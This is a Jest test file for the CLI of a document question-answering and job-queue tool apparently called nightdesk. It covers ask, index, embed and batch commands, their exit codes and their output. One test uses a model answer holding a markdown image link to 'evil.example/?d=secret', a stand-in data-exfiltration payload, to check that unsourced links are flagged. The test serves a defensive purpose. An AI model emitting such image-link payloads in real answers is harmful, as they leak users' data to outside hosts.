import { resolve } from "node:path";
import { afterEach, beforeEach, describe, expect, jest, test } from "@jest/globals";
import { loadConfig } from "../../../src/shared/config/load-config.ts";
import { indexSettingsOf, vectorDigestsOf } from "../../../src/shared/config/index-settings.ts";
import { eventually } from "../../conformance/signal.ts";
import { reportProgress } from "../../../src/shared/store/jobs/claim-job.ts";
import type { Settlement } from "../../../src/shared/job/settlement.ts";
import { findOrCreateBatch } from "../../../src/shared/store/jobs/batches.ts";
import { insertJobs } from "../../../src/shared/store/jobs/insert-jobs.ts";
import { settleRun } from "../../../src/shared/store/jobs/settle-run.ts";
import { askJob, claimNext, MADE_WITH } from "../../conformance/jobs.ts";
import { deskConfig, openDesk, pretendWorker, rowsOf } from "../desk.ts";
import type { Desk } from "../desk.ts";
import { waitForReview } from "../../support/waiting-review.ts";
import { openOnTerminal } from "../on-a-terminal.ts";
import { rendered } from "../export/rendered.ts";
import { AT_ONCE, queueAdHoc } from "../../../src/shared/store/jobs/queue-ad-hoc.ts";
import { findOpenIndexJob } from "../../../src/shared/store/jobs/waiting.ts";
import { answered, failed, parked, RECORD, refused, workByHand } from "../work-by-hand.ts";

const packageRoot = resolve(import.meta.dirname, "..", "..", "..");
let desk: Desk;
beforeEach(async () => {
  desk = await openDesk();
  await pretendWorker(desk.database);
});
afterEach(() => desk.dispose());

const jsonl = (count: number) =>
  Array.from(
    { length: count },
    (_, index) => `{"custom_id":"q${index}","kind":"ask","question":"?${index}"}\n`,
  ).join("");

describe("ask --wait", () => {
  test("that is refused before all files were read says to ask again", async () => {
    const more = { ask: { index_first_s: 0.001 } };
    await desk.write("nightdesk.yaml", deskConfig(desk.databaseUrl, more));
    const asked = desk.run("ask", "How are brakes bled?", "--wait");
    const jobs = () =>
      rowsOf(desk.database, "select job_id from nightdesk_data.jobs where kind = 'index'");
    await eventually("the index is to be read", async () => (await jobs()).length > 0);
    const { runId } = await claimNext(desk.database, String((await jobs())[0]?.["job_id"]));
    await reportProgress(desk.database, runId, { done: 1, total: 3 });
    await workByHand(desk.database, 1, () => refused);
    const { code, stderr } = await asked;
    expect(stderr).toContain("1 of 3 read");
    expect(stderr).toMatch(/2 files were not read yet when it was answered: ask it again\.\n$/);
    expect(code).toBe(4);
  });

  test("waits for an index job of all sources that is queued already, also one without options", async () => {
    const { database } = desk;
    await queueAdHoc(database, { kind: "index", options: { source: "corpus" } }, AT_ONCE);
    expect(await findOpenIndexJob(database)).toBeUndefined();
    const { jobId } = await queueAdHoc(database, { kind: "index" }, AT_ONCE);
    expect(await findOpenIndexJob(database)).toMatchObject({ jobId });
  });

  test("prints the answer, its footer, and then what it cites, all of it on stdout", async () => {
    const asked = desk.run(
      "ask",
      "How are brakes bled?",
      "--wait",
      "--big",
      "--path",
      "allowed/corpus/",
    );
    await workByHand(desk.database, 1, () => answered("Slowly. [1]"));
    const { code, stdout, stderr } = await asked;
    expect(stdout.split("\n")).toEqual([
      "Slowly. [1]",
      `Scope: full evidence from read_text_file (10/10), sha256=${"b".repeat(64)}`,
      "[1] allowed/corpus/a.md#Bleeding lines 1-2",
      "",
    ]);
    expect(stderr).not.toContain("[1]");
    expect(code).toBe(0);
    const [job] = await rowsOf(desk.database, "select input from nightdesk_data.jobs");
    expect(job).toEqual({
      input: {
        kind: "ask",
        question: "How are brakes bled?",
        options: { route: "big", path_prefix: "allowed/corpus/" },
      },
    });
  });

  test("prints links as they are written, and says which of them nobody but the model brought up", async () => {
    const answer = "Run `ssh yard@hafenwerk.example`. ![x](https://evil.example/?d=secret) [1]";
    const links = (["hafenwerk.example", "evil.example/?d=secret"] as const).map((text, at) => ({
      kind: "link" as const,
      text,
      standsIn: at === 0 ? ("both" as const) : ("neither" as const),
      flagged: at === 1,
      span: null,
    }));
    const record = { ...RECORD, checks: { ...RECORD.checks, figures: links } };
    const asked = desk.run("ask", "How?", "--wait");
    await workByHand(desk.database, 1, () => answered(answer), record);
    const { stdout, stderr } = await asked;
    expect(stdout.split("\n")[0]).toBe(answer);
    expect(stderr).toContain(
      "Check these links before you follow them; neither the question nor a document has them: evil.example/?d=secret\n",
    );
    expect(stderr).not.toContain("hafenwerk");
    expect(await rowsOf(desk.database, "select answer from nightdesk.results")).toEqual([
      { answer: expect.stringContaining(answer) },
    ]);
    const [batch] = await rowsOf(desk.database, "select name from nightdesk_data.batches");
    const name = String(batch?.["name"]);
    for (const format of ["native", "openai"]) {
      const { stdout: exported } = await desk.run("batch", "export", name, "--format", format);
      expect(exported).toContain(JSON.stringify(answer).slice(1, -1));
    }
    const { stdout: markdown } = await desk.run("batch", "export", name, "--format", "markdown");
    const quoted = markdown.split("\n").filter((line) => line.startsWith(">"));
    expect(rendered(quoted.join("\n"))).toEqual({
      acting: [],
      text: expect.stringContaining(answer),
    });
  });

  test("with --json prints one line with the evidence that was admitted", async () => {
    const asked = desk.run("ask", "How?", "--wait", "--json");
    await workByHand(desk.database, 1, () => answered("Slowly. [1]"));
    const { code, stdout } = await asked;
    const result = JSON.parse(stdout) as Record<string, unknown>;
    expect(Object.keys(result)).toEqual([
      "ok",
      "job_id",
      "run_id",
      "batch_id",
      "kind",
      "state",
      "answer",
      "scope",
      "citations",
      "evidence",
      "models",
      "usage",
      "timing_ms",
    ]);
    expect(result).toMatchObject({
      ok: true,
      state: "succeeded",
      citations: [
        {
          path: "allowed/corpus/a.md",
          heading: "Bleeding",
          chunk_key: null,
          line_start: 1,
          line_end: 2,
        },
      ],
      evidence: [
        {
          kind: "file",
          path: "allowed/corpus/a.md",
          chars_full: 10,
          truncated: false,
          score: null,
        },
      ],
      models: { first: "extractive", second: "extractive" },
      usage: { prompt_tokens: 7, completion_tokens: 3 },
    });
    expect(code).toBe(0);
  });

  test("of a refused job is exit 4 with the typed failure", async () => {
    const asked = desk.run("ask", "How?", "--wait", "--json");
    await workByHand(desk.database, 1, () => refused);
    const { code, stdout } = await asked;
    expect(JSON.parse(stdout)).toMatchObject({
      ok: false,
      error_code: "FILE_NOT_FOUND",
      error_message: "No file nowhere.md below the allowed roots.",
      job_id: expect.any(String),
      run_id: expect.any(String),
    });
    expect(code).toBe(4);
  });

  test("of a failed job is exit 1", async () => {
    const asked = desk.run("ask", "How?", "--wait");
    await workByHand(desk.database, 1, () => failed);
    const { code, stderr } = await asked;
    expect(stderr).toContain("The job failed: MODEL_NOT_FOUND: No such model.");
    expect(code).toBe(1);
  });

  test("comes back with 75 as soon as the job is parked", async () => {
    const asked = desk.run("ask", "How?", "--wait", "--json");
    await workByHand(desk.database, 1, () => parked);
    const { code, stdout } = await asked;
    expect(JSON.parse(stdout)).toMatchObject({
      ok: false,
      error_code: "MODEL_UNREACHABLE",
      state: "parked",
    });
    expect(code).toBe(75);
  });

  test("comes back with 75 when the batch is held", async () => {
    const asked = desk.run("ask", "How?", "--wait");
    await holdAll();
    const { code, stderr } = await asked;
    expect(stderr).toContain("The batch is held: window.");
    expect(code).toBe(75);
  });

  test("refuses a blank question before anything is queued", async () => {
    const { code, stderr } = await desk.run("ask", "  ", "--wait");
    expect(stderr).toContain("INPUT_INVALID");
    expect(code).toBe(1);
    expect(await rowsOf(desk.database, "select 1 from nightdesk_data.batches")).toEqual([]);
  });
});

/** Holds the batch that a command is about to queue, once it is there. */
async function holdAll(): Promise<void> {
  const deadline = performance.now() + 10_000;
  for (;;) {
    const held = await rowsOf(
      desk.database,
      "update nightdesk_data.batches set hold_reason = 'window' where state = 'open' returning 1",
    );
    if (held.length > 0) return;
    if (performance.now() > deadline) throw new Error("no batch came");
  }
}

describe("ask without --wait", () => {
  test("prints the id of the job at once", async () => {
    const { code, stdout } = await desk.run("ask", "How?");
    const [job] = await rowsOf(
      desk.database,
      "select job_id::text, state from nightdesk_data.jobs",
    );
    expect(job).toEqual({ job_id: stdout.trim(), state: "queued" });
    expect(code).toBe(0);
  });

  test("says how the work gets done when no worker is alive", async () => {
    await desk.database.query("delete from nightdesk_data.workers");
    const { stderr } = await desk.run("ask", "How?");
    expect(stderr).toContain(
      "No worker is alive; the work waits until you start one with: nightdesk worker",
    );
  });
});

describe("index", () => {
  const summary = {
    documents_seen: 45,
    added: 3,
    changed: 1,
    unchanged: 41,
    removed: 0,
    failed: 1,
    chunks_total: 212,
    duration_ms: 812,
  };
  const indexed = { kind: "succeeded", answer: null, scope: null, citations: [], summary } as const;

  test("prints what it did, and the documents that could not be indexed", async () => {
    await desk.database.query(
      "insert into nightdesk_data.document_failures (source, path, error_code, error_message) values ('corpus', 'allowed/corpus/x.md', 'FILE_READ_ERROR', 'It is not UTF-8.')",
    );
    const running = desk.run("index", "--source", "corpus");
    await workByHand(desk.database, 1, () => ({ kind: "succeeded", outcome: indexed }));
    const { code, stdout, stderr } = await running;
    expect(stdout).toBe(
      "45 documents: 3 added, 1 changed, 41 unchanged, 0 removed, 1 failed; 212 chunks; 812 ms\n",
    );
    expect(stderr).toContain("allowed/corpus/x.md: FILE_READ_ERROR: It is not UTF-8.");
    expect(code).toBe(3);
  });

  test("says which failures are known from before, and how to have their files read again", async () => {
    const print = async (failed: number) => {
      const running = desk.run("index");
      const counts = { ...summary, failed, failed_before: 1 };
      const outcome = { ...indexed, summary: counts };
      await workByHand(desk.database, 1, () => ({ kind: "succeeded", outcome }));
      return running;
    };
    const one = await print(1);
    expect(one.stdout).toContain(" 1 failed (known from before); ");
    expect(one.stderr).toContain(
      "Known from before and not read again: 1 of 1. To read all files again: nightdesk index --verify",
    );
    expect((await print(3)).stdout).toContain(" 3 failed (1 known from before); ");
  });

  test("that could not index a document is exit 3 with their number, and 0 where that is allowed", async () => {
    const runs = async (...words: string[]) => {
      const running = desk.run("index", "--json", ...words);
      await workByHand(desk.database, 1, () => ({ kind: "succeeded", outcome: indexed }));
      const { code, stdout } = await running;
      const { ok, failed_documents: failed } = JSON.parse(stdout) as Record<string, unknown>;
      return { code, ok, failed };
    };
    expect(await runs()).toEqual({ code: 3, ok: true, failed: 1 });
    expect(await runs("--allow-partial")).toEqual({ code: 0, ok: true, failed: 1 });
  });

  test("prints its counts as JSON where pictures of a file could not be read", async () => {
    const running = desk.run("index", "--json");
    const jobs = () => rowsOf(desk.database, "select batch_id from nightdesk_data.jobs");
    await eventually("the index is to be read", async () => (await jobs()).length > 0);
    const ocr = askJob("ocr", { input: { kind: "ocr", path: "allowed/corpus/a.pdf" } });
    await insertJobs(desk.database, String((await jobs())[0]?.["batch_id"]), [ocr]);
    await workByHand(desk.database, 2, ({ input }) =>
      input.kind === "ocr" ? refused : { kind: "succeeded", outcome: indexed },
    );
    const { code, stdout } = await running;
    expect(JSON.parse(stdout)).toMatchObject({
      ...{ ok: true, kind: "index", failed_documents: 2 },
      then: [{ ok: false, kind: "ocr", error_code: "FILE_NOT_FOUND" }],
    });
    expect(code).toBe(3);
  });

  test("in a batch of its own ends with 3 as well, for whoever waits", async () => {
    const waits = async (...words: string[]) => {
      const queued = await desk.run("index", "--no-wait", "--json", ...words);
      const { batch_id: batchId } = JSON.parse(queued.stdout) as { batch_id: string };
      const waiting = desk.run("batch", "wait", batchId);
      await workByHand(desk.database, 1, () => ({ kind: "succeeded", outcome: indexed }));
      return waiting;
    };
    expect(await waits()).toMatchObject({
      code: 3,
      stderr: expect.stringContaining("1 document could not be indexed."),
    });
    expect((await waits("--allow-partial")).code).toBe(0);
  });

  test("comes back with 75 when its batch is held", async () => {
    const running = desk.run("index", "--source", "corpus");
    await holdAll();
    expect((await running).code).toBe(75);
  });

  test("says when the worker had other settings than the configuration has", async () => {
    const where = { flags: {}, env: {}, cwd: desk.workroot, packageRoot };
    const settings = { ...indexSettingsOf(await loadConfig(where)), "index.language": "0" };
    const running = desk.run("index", "--source", "corpus");
    const outcome = { ...indexed, summary: { ...summary, failed: 0, settings } };
    await workByHand(desk.database, 1, () => ({ kind: "succeeded", outcome }));
    const { code, stderr } = await running;
    expect(stderr).toContain("other values of index.language than the configuration has");
    expect(code).toBe(0);
  });

  test("says the same of vectors, and what makes them with these settings", async () => {
    const where = { flags: {}, env: {}, cwd: desk.workroot, packageRoot };
    const settings = { ...vectorDigestsOf(await loadConfig(where)), "embed.provider": "0" };
    const running = desk.run("embed");
    const made = { model: "m", signature: "0".repeat(32), dims: 3, chunks_total: 0, embedded: 0 };
    const vectors = { ...made, outdated: 0, missing: 0, cut: 0, settings };
    const outcome = { ...indexed, summary: vectors };
    await workByHand(desk.database, 1, () => ({ kind: "succeeded", outcome }));
    const { code, stderr } = await running;
    expect(stderr).toContain("other values of embed.provider than the configuration has");
    expect(stderr).toContain("and then run: nightdesk embed");
    expect(code).toBe(0);
  });

  test("that failed is exit 1", async () => {
    const running = desk.run("index", "--json");
    await workByHand(desk.database, 1, () => failed);
    const { code, stdout } = await running;
    expect(JSON.parse(stdout)).toMatchObject({
      ok: false,
      error_code: "MODEL_NOT_FOUND",
      kind: "index",
    });
    expect(code).toBe(1);
  });
});

describe("batch wait", () => {
  test("is exit 0 when all succeeded, and 3 when some did not", async () => {
    const file = await desk.write("wait.jsonl", jsonl(4));
    await desk.run("enqueue", file, "--batch-name", "good");
    await desk.run("enqueue", file, "--batch-name", "mixed");
    const good = desk.run("batch", "wait", "good");
    await workByHand(desk.database, 8, ({ customId }) => settleMixed(customId));
    await good;
    const names = await rowsOf(
      desk.database,
      "select batch, refused::int from nightdesk.batch_progress order by 1",
    );
    expect(names).toEqual([
      { batch: "good", refused: 1 },
      { batch: "mixed", refused: 1 },
    ]);
    expect((await good).code).toBe(3);
    expect((await desk.run("batch", "wait", "mixed")).stderr).toContain(
      "has ended: 3 succeeded, 1 refused.",
    );
  });

  test("names the report after a long wait, and not after a short one", async () => {
    const file = await desk.write("long.jsonl", jsonl(2));
    await desk.run("enqueue", file, "--batch-name", "long");
    const now = performance.now.bind(performance);
    let ahead = 0;
    const clock = jest.spyOn(performance, "now").mockImplementation(() => now() + ahead);
    const waited = desk.run("batch", "wait", "long");
    await untilItPolls();
    ahead = 61_000;
    await workByHand(desk.database, 2, () => answered("yes"));
    const { stderr } = await waited;
    clock.mockRestore();
    expect(stderr).toBe(
      'Batch "long" has ended: 2 succeeded.\nFor the report on it: nightdesk batch report "long"\n',
    );
    expect((await desk.run("batch", "wait", "long")).stderr).toBe(
      'Batch "long" has ended: 2 succeeded.\n',
    );
  });

  /** The batch is looked for once by its name; who looks again and again waits. */
  async function untilItPolls(): Promise<void> {
    const looks = new Set<unknown>();
    await eventually("somebody waits", async () => {
      const rows = await rowsOf(
        desk.database,
        "select query_start from pg_stat_activity where datname = current_database() and query like '%batch_progress%' and pid <> pg_backend_pid()",
      );
      for (const row of rows) looks.add(String(Number(row["query_start"])));
      return looks.size > 2;
    });
  }

  test("with enqueue --wait waits for what it queued", async () => {
    const file = await desk.write("wait.jsonl", jsonl(3));
    const waiting = desk.run("enqueue", file, "--wait", "--batch-name", "all good");
    await workByHand(desk.database, 3, () => answered("yes"));
    expect((await waiting).code).toBe(0);
  });

  test("names the command for the answer that a person has to look at", async () => {
    await waitForReview(desk.database);
    const [batch] = await rowsOf(desk.database, "select name from nightdesk_data.batches");
    const name = String(batch?.["name"]);
    const waiting = openOnTerminal(`batch wait '${name}'`, { cwd: desk.workroot, columns: 200 });
    await waiting.shows(`1 run of it waits for somebody: nightdesk reviews list --batch "${name}"`);
    waiting.type("\u0003");
    await waiting.left;
  });

  test("--no-hold comes back with 75 when only parked jobs are left", async () => {
    const file = await desk.write("wait.jsonl", jsonl(2));
    await desk.run("enqueue", file, "--batch-name", "stuck");
    await workByHand(desk.database, 2, ({ customId }) =>
      customId === "q0" ? answered("yes") : parked,
    );
    const { code, stderr } = await desk.run("batch", "wait", "stuck", "--no-hold");
    expect(stderr).toContain("1 parked, 1 succeeded");
    expect(code).toBe(75);
  });

  test("--no-hold waits for what runs beside parked jobs, and not for a batch that is loaded", async () => {
    const { database } = desk;
    const file = await desk.write("wait.jsonl", jsonl(2));
    await desk.run("enqueue", file, "--batch-name", "stuck");
    const jobs = await rowsOf(database, "select job_id from nightdesk_data.jobs order by seq");
    const [first, second] = jobs.map((row) => String(row["job_id"]));
    const settle = (runId: string, settlement: Settlement) =>
      settleRun(database, { runId, runMs: 1, ...MADE_WITH }, settlement, RECORD);
    await settle((await claimNext(database, first ?? "")).runId, parked);
    const { runId } = await claimNext(database, second ?? "");
    const waited = desk.run("batch", "wait", "stuck", "--no-hold");
    await untilItPolls();
    await settle(runId, answered("yes"));
    expect((await waited).stderr).toContain("1 parked, 1 succeeded");
    await findOrCreateBatch(database, "begun", "file");
    expect(await desk.run("batch", "wait", "begun", "--no-hold")).toMatchObject({ code: 75 });
  });

  test("of a name that is not there suggests one that is", async () => {
    const file = await desk.write("wait.jsonl", jsonl(1));
    await desk.run("enqueue", file, "--batch-name", "tonight");
    const { code, stderr } = await desk.run("batch", "wait", "tonigth");
    expect(stderr).toContain('NOT_FOUND: There is no batch "tonigth"; did you mean "tonight"?');
    expect(code).toBe(1);
  });
});

const settleMixed = (customId: string) => (customId === "q3" ? refused : answered("yes"));

describe("batch show, list and cancel", () => {
  test("show counts that add up and group what did not succeed", async () => {
    const file = await desk.write("show.jsonl", jsonl(8));
    await desk.run("enqueue", file, "--batch-name", "mixed");
    await workByHand(desk.database, 8, ({ customId }) =>
      customId < "q6" ? refused : answered("yes"),
    );
    const { stdout } = await desk.run("batch", "show", "mixed");
    expect(stdout).toContain("8 jobs: 2 succeeded, 6 refused");
    expect(stdout).toContain("FILE_NOT_FOUND, 6 jobs refused: q0, q1, q2, q3, q4, …");
    const shown = JSON.parse((await desk.run("batch", "show", "mixed", "--json")).stdout) as Record<
      string,
      unknown
    >;
    expect(shown).toMatchObject({
      state: "completed",
      total: 8,
      succeeded: 2,
      refused: 6,
      queued: 0,
    });
    expect((await desk.run("batch", "list")).stdout).toContain("mixed  completed");
  });

  test("cancel ends what waits and keeps what is finished", async () => {
    const file = await desk.write("cancel.jsonl", jsonl(3));
    await desk.run("enqueue", file, "--batch-name", "cancelled");
    const { code, stderr } = await desk.run("batch", "cancel", "cancelled");
    expect(stderr).toContain('Cancelled batch "cancelled": 3 cancelled.');
    expect(code).toBe(0);
    expect((await desk.run("batch", "cancel", "cancelled")).stderr).toContain("nothing to cancel");
  });

  test("a batch that has ended takes new jobs and is open again", async () => {
    const file = await desk.write("grow.jsonl", jsonl(1));
    await desk.run("enqueue", file, "--batch-name", "grown");
    await workByHand(desk.database, 1, () => answered("yes"));
    await desk.run("enqueue", await desk.write("grow.jsonl", jsonl(3)), "--batch-name", "grown");
    const [batch] = await rowsOf(
      desk.database,
      "select state, total::int, queued::int from nightdesk.batch_progress",
    );
    expect(batch).toEqual({ state: "running", total: 3, queued: 2 });
  });
});
